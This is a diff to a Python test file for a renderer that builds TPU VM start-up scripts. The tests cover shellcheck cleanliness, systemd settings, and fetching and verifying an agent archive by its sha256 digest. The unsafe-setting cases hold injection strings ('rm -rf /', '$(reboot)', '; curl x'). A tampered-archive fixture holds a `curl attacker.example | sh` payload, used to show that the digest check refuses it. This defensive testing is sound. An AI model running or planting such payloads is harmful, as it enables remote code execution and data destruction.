@@ -1,33 +1,41 @@
-"""The start-up script renderer, without Pulumi: deterministic, size-guarded, and clean under shellcheck."""
+"""The start-up script renderer, without Pulumi: deterministic, size-guarded, clean under shellcheck, and
+booted for real (bash, curl, sha256sum, tar) against a metadata server and a storage emulator on loopback."""
 
 from __future__ import annotations
 
 import dataclasses
+import io
 import os
 import shutil
 import subprocess
 import sys
+import tarfile
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
+from infra import naming
 from infra.config import parse_stack_config
-from infra.programs import Program
+from infra.packaging import repository_folder
 from infra.schema import ConfigError
 from infra.startup import (
+    AGENT_UNIT,
     COORDINATOR_PORT,
     EXIT_CONFIG,
     MAX_METADATA_VALUE_BYTES,
+    Artifact,
     StartupSpec,
     metadata_size_problem,
     render_env,
     render_startup_script,
 )
-from infra.tpu.metadata import startup_spec, vm_metadata
+from infra.tpu.metadata import AGENT_FOLDER, startup_spec, vm_metadata
 from tests.support import stack_config, with_object
 
 ROOT = Path(__file__).resolve().parents[1]
 SHELLCHECK = shutil.which("shellcheck") or str(Path(sys.executable).with_name("shellcheck"))
+ARTIFACTS = "acme-ml-sandbox-dev-artifacts"
 
 
 def spec(stack: str = "dev") -> StartupSpec:
@@ -35,14 +43,25 @@ def spec(stack: str = "dev") -> StartupSpec:
     return startup_spec(cfg, cfg.tpu_vms[0])
 
 
+def own_folder_spec() -> StartupSpec:
+    """The dev VM running a folder source with its own command: a workload that names no framework."""
+    own = {"source": {"folder": "workloads/tf_mnist"}, "command": ["python", "tf_mnist.py", "--epochs", "1"]}
+    raw = with_object(
+        stack_config(), "workloads", lambda w: w.update(mnist={"description": "own code", "dataObject": "m.npz", **own})
+    )
+    cfg = parse_stack_config("dev", raw)
+    return startup_spec(cfg, cfg.tpu_vms[0])
+
+
 def test_rendering_is_deterministic():
     assert render_startup_script(spec()) == render_startup_script(spec())
+    assert render_env(spec()) == render_env(spec())
 
 
-@pytest.mark.parametrize("stack", ["dev", "prod"])
+@pytest.mark.parametrize("stack", ["dev", "prod", "own-folder"])
 def test_rendered_script_passes_shellcheck(stack, tmp_path):
     script = tmp_path / "startup.sh"
-    script.write_text(render_startup_script(spec(stack)))
+    script.write_text(render_startup_script(own_folder_spec() if stack == "own-folder" else spec(stack)))
     done = subprocess.run([SHELLCHECK, "--shell=bash", "--severity=style", str(script)], capture_output=True, text=True)
     assert done.returncode == 0, done.stdout
 
@@ -53,12 +72,19 @@ def test_installs_the_version_pinned_for_the_runtime_only_when_missing():
     # The install is guarded by a version check, so an image that has it installs nothing.
     assert 'if [[ "${installed}" == "${FRAMEWORK_VERSION}" ]]; then' in dev
     # tensorflow-tpu is on the package index only from 2.16.1: before, a missing TF is a FATAL, no pip.
-    assert "tensorflow-tpu" not in dev.split("ensure_packages() {")[1].split("}")[0].replace(
-        "tensorflow-tpu 2.14.1 is not on the package index", ""
-    )
-    assert 'fatal "tensorflow ${FRAMEWORK_VERSION} is not installed' in dev
+    assert "pip install" not in dev and 'fatal "tensorflow ${FRAMEWORK_VERSION} is not installed' in dev
     newer = render_startup_script(tf_spec("2.16.1", "tpu-vm-tf-2.16.1-pjrt"))
     assert "'tensorflow-tpu==2.16.1'" in newer and "is not installed (found" not in newer
+
+
+def test_a_workload_naming_no_framework_checks_and_installs_none():
+    """Its source's requirements bring what it needs (the agent installs them), so the boot neither checks
+    the image for a framework nor installs one."""
+    own = own_folder_spec()
+    assert own.framework == "" and own.constraints == ()
+    script = render_startup_script(own)
+    assert "FRAMEWORK_VERSION" not in script and "ensure_framework" not in script and "pip install" not in script
+    assert "ensure_framework\nfetch_agent\n" in render_startup_script(spec())  # the example does check, first
 
 
 def tf_spec(version: str, runtime: str, accelerator: str | None = None) -> StartupSpec:
@@ -83,17 +109,23 @@ def test_each_tensorflow_runtime_gets_its_environment_in_the_unit():
     assert "Environment=TPU_NAME=mnist-v2-spot\n" in pod and "Environment=TPU_LOAD_LIBRARY=0\n" in pod
     assert "NEXT_PLUGGABLE_DEVICE_USE_C_API" not in pod
     se = unit_of(render_startup_script(spec("dev")))  # tpu-vm-tf-2.14.1: stream executor
-    assert "Environment=" not in se
+    assert [line for line in se.splitlines() if line.startswith("Environment=")] == ["Environment=PYTHONPATH=@AGENT_DIR@"]
+    # The agent passes the runtime's environment on to the run: it is told the names.
+    assert "TPU_PLATFORM_RUNTIME_ENV=NEXT_PLUGGABLE_DEVICE_USE_C_API,TF_PLUGGABLE_DEVICE_LIBRARY_PATH\n" in render_env(
+        spec("prod")
+    )
 
 
 def test_the_unit_never_restarts_a_configuration_error_and_gives_up_on_a_crash_loop():
     unit = unit_of(render_startup_script(spec()))
-    assert "Restart=on-failure\n" in unit and f"RestartPreventExitStatus={EXIT_CONFIG} 3\n" in unit
+    assert "Restart=on-failure\n" in unit and f"RestartPreventExitStatus={EXIT_CONFIG}\n" in unit
     assert "StartLimitIntervalSec=3600\n" in unit and "StartLimitBurst=5\n" in unit
+    assert "ExecStart=@PYTHON@ -u -m vm_agent\n" in unit and f"SyslogIdentifier={AGENT_UNIT.split('.')[0]}\n" in unit
 
 
-def test_extras_keep_protobuf_below_5_next_to_tensorflow_before_2_18():
-    assert """pip install --quiet "${extra#*=}" 'protobuf<5'""" in render_startup_script(spec("prod"))
+def test_pip_constraints_keep_protobuf_below_5_next_to_tensorflow_before_2_18():
+    """The agent installs a source's requirements under these bounds (agent.env's TPU_PLATFORM_PIP_CONSTRAINTS)."""
+    assert 'echo "TPU_PLATFORM_PIP_CONSTRAINTS=protobuf<5"' in render_startup_script(spec("prod"))
     newer = render_startup_script(tf_spec("2.18.0", "tpu-vm-tf-2.18.0-pjrt"))
     assert "protobuf<5" not in newer
 
@@ -139,7 +171,7 @@ def test_an_image_too_old_for_the_framework_fails_once_and_starts_nothing(tmp_pa
     fatal = [line for line in done.stderr.splitlines() if "FATAL" in line]
     assert fatal == [
         "tpu-platform: FATAL: jax 0.10.2 needs Python 3.11 or newer; this image has Python 3.10.12; "
-        "not starting tpu-workload-mnist.service. Fix the stack (see the plan's catalog checks)."
+        f"not starting {AGENT_UNIT}. Fix the stack (see the plan's catalog checks)."
     ]
     assert not (folder / "systemctl").exists() and (folder / "shims" / "pip-called").read_text() == ""
 
@@ -156,42 +188,53 @@ def test_a_tensorflow_the_image_lacks_and_pip_cannot_supply_fails_once(tmp_path)
     assert not (folder / "systemctl").exists() and (folder / "shims" / "pip-called").read_text() == ""
 
 
-def test_runs_under_systemd_with_settings_from_metadata():
+def test_the_agent_runs_under_systemd_with_its_settings_from_metadata():
     script = render_startup_script(spec())
     assert "Restart=on-failure" in script and "StandardOutput=journal" in script
     assert 'systemctl start "${UNIT}"' in script
-    assert "--data ${TPU_PLATFORM_DATA} --epochs ${TPU_PLATFORM_EPOCHS}" in script
     assert 'metadata "instance/attributes/tpu-platform-env"' in script
-    env = render_env(spec())
-    assert "TPU_PLATFORM_MODEL_DIR=gs://acme-ml-sandbox-dev-models/mnist/mnist-v2-spot/r1\n" in env
-    assert "TPU_PLATFORM_CHECKPOINT_DIR=gs://acme-ml-sandbox-dev-checkpoints/mnist/mnist-v2-spot/r1\n" in env
+    env = dict(line.split("=", 1) for line in render_env(spec()).splitlines())
+    assert env["TPU_PLATFORM_CHECKPOINTS"] == "gs://acme-ml-sandbox-dev-checkpoints"
+    assert env["TPU_PLATFORM_MODELS"] == "gs://acme-ml-sandbox-dev-models"
+    assert env["TPU_PLATFORM_ARTIFACTS"] == f"gs://{ARTIFACTS}"
+    assert (env["TPU_PLATFORM_STACK"], env["TPU_PLATFORM_VM"], env["TPU_PLATFORM_WORKLOAD"]) == (
+        "dev", "mnist-v2-spot", "mnist"
+    )  # fmt: skip
 
 
-def test_ships_the_program_and_its_support_files():
+def test_the_script_carries_the_agent_by_digest_and_no_program():
+    """The workload's code comes from the run spec (the agent fetches it); the script names only the
+    agent: the archive `pulumi up` uploads (infra/artifacts.py), by its content's digest."""
+    agent = repository_folder(AGENT_FOLDER)
     script = render_startup_script(spec())
-    for name in ("tf_mnist.py", "runlib.py"):
-        assert (ROOT / "workloads" / name).read_text() in script
-    assert "google.cloud.storage=google-cloud-storage==3.17.1" in script
+    assert f"readonly AGENT_SHA256={agent.sha256}\n" in script
+    assert f"/storage/v1/b/{ARTIFACTS}/o/{naming.source_object(agent.sha256).replace('/', '%2F')}?alt=media" in script
+    for program in ("workloads/tf_mnist/tf_mnist.py", "workloads/lib/runlib.py"):
+        assert (ROOT / program).read_text()[:400] not in script
+    assert len(script.encode()) < 16 * 1024  # no program inlined: far below the 256 KiB a value may hold
 
 
-def test_a_finished_run_is_not_started_again():
-    script = render_startup_script(spec())
-    finished = script.index("if run_finished; then")
-    assert finished < script.index('systemctl start "${UNIT}"')
-    assert '"$runlib" status --checkpoint-dir' in script  # with the env file: the status dir too
-    assert 'runlib.py" announce' in script  # and the guard is told again
-
-
-def test_unsafe_settings_are_refused():
-    bad = dataclasses.replace(spec(), settings=(("TPU_PLATFORM_DATA", "--data", "gs://x; rm -rf /"),))
-    with pytest.raises(ValueError, match="unsafe setting"):
+@pytest.mark.parametrize(
+    "change, says",
+    [
+        ({"settings": (("TPU_PLATFORM_DATA", "gs://x; rm -rf /"),)}, "unsafe setting"),
+        ({"settings": (("TPU_PLATFORM_DATA", "x\nExecStartPre=/bin/sh"),)}, "unsafe setting"),
+        ({"settings": (("lower-case", "x"),)}, "unsafe setting"),
+        ({"environment": (("TPU_NAME", "$(reboot)"),)}, "unsafe setting"),
+        ({"constraints": ("protobuf<5; curl x",)}, "unsafe constraint"),
+        ({"agent": Artifact(ARTIFACTS, "sources/a b.tar.gz", "0" * 64)}, "unsafe agent location"),
+        ({"agent": Artifact("Bad_Bucket!", "sources/a.tar.gz", "0" * 64)}, "unsafe agent location"),
+        ({"agent": Artifact(ARTIFACTS, "sources/a.tar.gz", "abc")}, "is not a sha256"),
+        ({"framework": "torch"}, "unknown framework"),
+        ({"framework_version": "2.15; rm"}, "unsafe framework version"),
+    ],
+)
+def test_unsafe_settings_are_refused(change, says):
+    bad = dataclasses.replace(spec(), **change)
+    with pytest.raises(ValueError, match=says):
         render_startup_script(bad)
-
-
-def test_a_program_cannot_end_the_here_document():
-    bad = dataclasses.replace(spec(), files=(("main.py", "print(1)\nTPU_PLATFORM_PROGRAM\n"),))
-    with pytest.raises(ValueError, match="ends the here-document"):
-        render_startup_script(bad)
+    with pytest.raises(ValueError, match=says):
+        render_env(bad)
 
 
 def test_metadata_size_limits():
@@ -201,90 +244,188 @@ def test_metadata_size_limits():
     assert "per VM" in (metadata_size_problem(many) or "")
 
 
-def test_oversized_workload_is_a_config_error(monkeypatch):
-    monkeypatch.setattr(Program, "source", lambda self: "# padding\n" * 30_000)
-    cfg = parse_stack_config("dev", stack_config())
+def oversized() -> dict[str, str]:
+    """A legal stack whose run spec outgrows a metadata value: 64 env values of 4,096 characters each
+    (the most infra/config/settings.py allows) are 262,144 bytes before their names and the JSON."""
+    env = {f"PAD_{i:02}": "x" * 4096 for i in range(64)}
+    return with_object(stack_config(), "workloads", lambda w: w["mnist"].update(env=env))
+
+
+def test_oversized_workload_is_a_config_error():
+    cfg = parse_stack_config("dev", oversized())
     with pytest.raises(ConfigError) as caught:
         vm_metadata(cfg)
     message = str(caught.value)
-    assert "tpu-platform:tpuVms[0].workload = 'mnist': metadata 'startup-script' is 3" in message
+    assert "tpu-platform:tpuVms[0].workload = 'mnist': metadata 'tpu-platform-run' is 2" in message
     assert "GCP allows 262,144 per value" in message
 
 
-def test_oversized_workload_registers_nothing(monkeypatch):
+def test_oversized_workload_registers_nothing():
     from tools.offline.mocks import GcpMocks, RecordingMonitor
     from tools.offline.runner import run_program
 
-    monkeypatch.setattr(Program, "source", lambda self: "# padding\n" * 30_000)
     monitor = RecordingMonitor(GcpMocks("acme-ml-sandbox"))
     with pytest.raises(Exception, match="GCP allows 262,144 per value"):
-        run_program("dev", stack_config(), monitor=monitor)
+        run_program("dev", oversized(), monitor=monitor)
     assert monitor.registrations == []
 
 
-# An image that has the pinned framework and everything else: the script gets as far as starting the unit.
+# An image that has the pinned framework: its python3 answers the version check and is a real Python
+# for the rest (reading the token's JSON).
 READY_IMAGE = """#!/bin/bash
 case "$*" in
-  *__version__*) echo {version} ;;
+  *__version__*) echo asked >> "$(dirname "$0")/version-asked"; echo {version} ;;
+  *) exec "{python}" "$@" ;;
 esac
 """
 
+TAMPERED = "sources/tampered.tar.gz"
 
-def slice_env(
-    tmp_path: Path, attributes: dict[str, str], port: str = "", of: StartupSpec | None = None
+
+def tampered_agent(real: bytes) -> bytes:
+    """The real agent archive with one more module: what someone with write access to the bucket could
+    put in its place."""
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=io.BytesIO(real), mode="r:gz") as source, tarfile.open(fileobj=raw, mode="w:gz") as out:
+        for member in source.getmembers():
+            out.addfile(member, source.extractfile(member) if member.isfile() else None)
+        evil = b"import os\nos.system('curl attacker.example | sh')\n"
+        info = tarfile.TarInfo("sitecustomize.py")
+        info.size = len(evil)
+        out.addfile(info, io.BytesIO(evil))
+    return raw.getvalue()
+
+
+@pytest.fixture(scope="module")
+def artifacts() -> Iterator[str]:
+    """A storage emulator holding what `pulumi up` uploads (the agent, by digest) and a tampered agent;
+    yields STORAGE_EMULATOR_HOST."""
+    from google.auth.credentials import AnonymousCredentials
+    from google.cloud import storage
+
+    from tests.sandbox import storage_emulator
+
+    with storage_emulator() as host:
+        client = storage.Client("acme-ml-sandbox", AnonymousCredentials(), client_options={"api_endpoint": host})
+        bucket = client.create_bucket(ARTIFACTS)
+        agent = repository_folder(AGENT_FOLDER)
+        bucket.blob(naming.source_object(agent.sha256)).upload_from_string(agent.data)
+        bucket.blob(TAMPERED).upload_from_string(tampered_agent(agent.data))
+        yield host
+
+
+def boot(
+    tmp_path: Path, attributes: dict[str, str], storage: str, port: str = "", of: StartupSpec | None = None
 ) -> tuple[subprocess.CompletedProcess, dict]:
-    """Boot the dev script against a metadata server on loopback; the unit's environment file it wrote."""
+    """Boot a worker against a metadata server and the storage emulator; the agent.env it wrote."""
     from tests.sandbox import metadata_server
 
     of = of or spec()
     script = render_startup_script(of)
     with metadata_server({"tpu-platform-env": render_env(of), **attributes}) as host:
-        extra = {"GCE_METADATA_HOST": host, **({"TPU_PLATFORM_COORDINATOR_PORT": port} if port else {})}
-        done, folder = boot_with(script, READY_IMAGE.format(version=of.framework_version), tmp_path, extra)
-    env_file = folder / "root/etc/tpu-platform/mnist.env"
+        extra = {"GCE_METADATA_HOST": host, "STORAGE_EMULATOR_HOST": storage,
+                 **({"TPU_PLATFORM_COORDINATOR_PORT": port} if port else {})}  # fmt: skip
+        image = READY_IMAGE.format(version=of.framework_version, python=sys.executable)
+        done, folder = boot_with(script, image, tmp_path, extra)
+    env_file = folder / "root/etc/tpu-platform/agent.env"
     lines = env_file.read_text().splitlines() if env_file.exists() else []
     return done, dict(line.split("=", 1) for line in lines)
 
 
-def test_each_worker_of_a_slice_gets_its_id_the_worker_count_and_worker_0_as_coordinator(tmp_path):
+def test_the_agent_is_fetched_verified_and_started_from_its_own_folder(tmp_path, artifacts):
+    of = spec()
+    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
+    assert done.returncode == 0, done.stderr
+    agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
+    assert (agent / ".verified").exists() and (agent / "vm_agent/__main__.py").read_text() == (
+        ROOT / "vm_agent/__main__.py"
+    ).read_text()
+    # Links in the package (none leave the repository) arrive as the files they point to.
+    assert not any(path.is_symlink() for path in agent.rglob("*"))
+    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
+    assert f"Environment=PYTHONPATH={agent}\n" in unit
+    assert f"EnvironmentFile={tmp_path}/root/etc/tpu-platform/agent.env\n" in unit
+    assert (tmp_path / "systemctl").read_text() == f"daemon-reload\nstart {AGENT_UNIT}\n"
+    assert (tmp_path / "shims/version-asked").exists()  # an example's framework is checked
+    # agent.env: the stack's settings from metadata, then what the boot knows of this VM.
+    assert env["TPU_PLATFORM_STACK"] == "dev" and env["TPU_PLATFORM_PYTHON"].endswith("shims/python3")
+    assert env["TPU_PLATFORM_ROOT"] == f"{tmp_path}/root" and env["STORAGE_EMULATOR_HOST"] == artifacts
+    assert not (agent.parent / f"{of.agent.sha256}.tar.gz").exists()  # the download is not kept
+
+
+def test_a_tampered_agent_is_refused_and_nothing_starts(tmp_path, artifacts):
+    """Bytes in the bucket that do not hash to the digest the stack shipped are never unpacked or run."""
+    real = spec()
+    tampered = dataclasses.replace(real, agent=Artifact(ARTIFACTS, TAMPERED, real.agent.sha256))
+    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=tampered)
+    assert done.returncode == EXIT_CONFIG, done.stderr
+    assert (
+        f"FATAL: the agent gs://{ARTIFACTS}/{TAMPERED} does not match its digest {real.agent.sha256}" in done.stderr
+    )
+    assert not (tmp_path / "systemctl").exists() and env == {}
+    assert list((tmp_path / "root/opt/tpu-platform/agent").iterdir()) == []  # neither archive nor files kept
+
+
+def test_an_agent_missing_from_the_bucket_is_a_configuration_error(tmp_path, artifacts):
+    missing = dataclasses.replace(spec(), agent=Artifact(ARTIFACTS, naming.source_object("0" * 64), "0" * 64))
+    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=missing)
+    assert done.returncode == EXIT_CONFIG
+    assert f"FATAL: cannot read the agent gs://{ARTIFACTS}/{naming.source_object('0' * 64)}" in done.stderr
+    assert not (tmp_path / "systemctl").exists()
+
+
+def test_each_worker_of_a_slice_gets_its_id_the_worker_count_and_worker_0_as_coordinator(tmp_path, artifacts):
     # Both formats of worker-network-endpoints, as jax/_src/clusters/cloud_tpu_cluster.py reads them.
     endpoints = "t1k-w-0:0:10.130.0.5,t1k-w-1:1:10.130.0.6,t1k-w-2:2:10.130.0.7,t1k-w-3:3:10.130.0.8"
-    done, env = slice_env(tmp_path / "a", {"agent-worker-number": "2", "worker-network-endpoints": endpoints})
+    attributes = {"agent-worker-number": "2", "worker-network-endpoints": endpoints}
+    done, env = boot(tmp_path / "a", attributes, artifacts)
     assert done.returncode == 0, done.stderr
     assert env["TPU_PLATFORM_WORKER_ID"] == env["TPU_WORKER_ID"] == "2"
     assert env["TPU_PLATFORM_WORKER_COUNT"] == "4"
     assert env["TPU_PLATFORM_COORDINATOR"] == f"10.130.0.5:{COORDINATOR_PORT}" == "10.130.0.5:8482"
-    assert env["TPU_PLATFORM_RUN_ID"] == "dev/mnist/mnist-v2-spot/r1"  # the run's settings are still there
-    _, env = slice_env(tmp_path / "b", {"agent-worker-number": "1", "worker-network-endpoints": "w-0,w-1"}, "9000")
+    assert env["TPU_PLATFORM_VM"] == "mnist-v2-spot"  # the stack's settings are still there
+    attributes = {"agent-worker-number": "1", "worker-network-endpoints": "w-0,w-1"}
+    _, env = boot(tmp_path / "b", attributes, artifacts, "9000")
     assert (env["TPU_PLATFORM_WORKER_ID"], env["TPU_PLATFORM_WORKER_COUNT"]) == ("1", "2")
     assert env["TPU_PLATFORM_COORDINATOR"] == "w-0:9000"
 
 
-def test_a_tensorflow_pod_worker_knows_its_number_and_its_unit_names_the_pod(tmp_path):
+def test_a_tensorflow_pod_worker_knows_its_number_and_its_unit_names_the_pod(tmp_path, artifacts):
     """TF pods are driven from worker 0 (TPU_NAME in the unit); tf_mnist on any other worker exits at
     once by TPU_WORKER_ID. A TF pod cannot run on a CPU: this checks what the script renders and writes."""
     pod = tf_spec("2.15.0", "tpu-vm-tf-2.15.0-pod-pjrt", "v2-32")  # 4 hosts
     endpoints = ",".join(f"w-{i}:{i}:10.0.0.{i + 2}" for i in range(4))
-    done, env = slice_env(tmp_path, {"agent-worker-number": "3", "worker-network-endpoints": endpoints}, of=pod)
+    attributes = {"agent-worker-number": "3", "worker-network-endpoints": endpoints}
+    done, env = boot(tmp_path, attributes, artifacts, of=pod)
     assert done.returncode == 0, done.stderr
     assert (env["TPU_WORKER_ID"], env["TPU_PLATFORM_WORKER_COUNT"]) == ("3", "4")
-    unit = (tmp_path / "root/etc/systemd/system/tpu-workload-mnist.service").read_text()
+    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
     assert "Environment=TPU_NAME=mnist-v2-spot\n" in unit
     assert (
         'process = int(os.environ.get("TPU_WORKER_ID", "0"))' in (ROOT / "workloads/tf_mnist/tf_mnist.py").read_text()
     )
 
 
-def test_a_single_host_vm_is_one_worker_without_a_coordinator(tmp_path):
-    done, env = slice_env(tmp_path, {"agent-worker-number": "0"})
+def test_a_single_host_vm_is_one_worker_without_a_coordinator(tmp_path, artifacts):
+    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
     assert done.returncode == 0, done.stderr
     assert (env["TPU_PLATFORM_WORKER_ID"], env["TPU_PLATFORM_WORKER_COUNT"], env["TPU_PLATFORM_COORDINATOR"]) == (
         "0", "1", ""
     )  # fmt: skip
 
 
-def test_a_worker_number_outside_its_slice_is_a_configuration_error(tmp_path):
-    done, _ = slice_env(tmp_path, {"agent-worker-number": "2", "worker-network-endpoints": "w-0,w-1"})
+def test_a_worker_number_outside_its_slice_is_a_configuration_error(tmp_path, artifacts):
+    attributes = {"agent-worker-number": "2", "worker-network-endpoints": "w-0,w-1"}
+    done, _ = boot(tmp_path, attributes, artifacts)
     assert done.returncode == EXIT_CONFIG
     assert "agent-worker-number '2' is not a worker of this 2-worker slice" in done.stderr
     assert not (tmp_path / "systemctl").exists()
+
+
+def test_a_workload_naming_no_framework_boots_without_touching_the_image(tmp_path, artifacts):
+    """The image's python3 is never asked for a framework's version, nor pip run."""
+    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=own_folder_spec())
+    assert done.returncode == 0, done.stderr
+    assert env["TPU_PLATFORM_PIP_CONSTRAINTS"] == ""
+    assert (tmp_path / "systemctl").read_text().endswith(f"start {AGENT_UNIT}\n")
+    assert not (tmp_path / "shims/version-asked").exists()
